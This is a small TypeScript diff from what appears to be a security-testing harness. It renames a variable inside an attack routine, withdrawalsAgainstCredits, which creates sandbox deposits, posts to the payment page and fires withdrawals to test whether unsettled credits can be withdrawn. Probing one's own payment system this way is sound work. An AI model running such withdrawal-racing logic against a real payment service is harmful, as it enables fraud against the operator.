@@ -17,7 +17,7 @@ export const withdrawalsAgainstCredits: Attack = {
       const { token, card } = members[turn++ % members.length]!;
       const call = (path: string, body: unknown) => ask(apiCall(path, body, token));
       const withdrawal = () => call("user/withdrawal", { bank_id: card, amount: 1000, mode: "a" });
-      const created = Created.safeParse(json((await call("deposit", topUp)).text));
+      const created = Created.safeParse(json((await call("deposit", deposit)).text));
       if (!created.success) return String((await withdrawal()).status);
       const order = Order.parse(json((await call("deposit/order", created.data.data)).text));
       const paid = fetch(`${order.data.page_url.replace(/\?.*$/, "")}/pay`, { method: "POST", redirect: "manual" });
@@ -32,7 +32,7 @@ export const withdrawalsAgainstCredits: Attack = {
 };
 
 /** By the plain sandbox vendor's ATM. */
-const topUp = { amount: 1000, cash_vendor_id: firstSandboxMethod + 1 };
+const deposit = { amount: 1000, cash_vendor_id: firstSandboxMethod + 1 };
 
 function json(text: string): unknown {
   return JSON.parse(text);
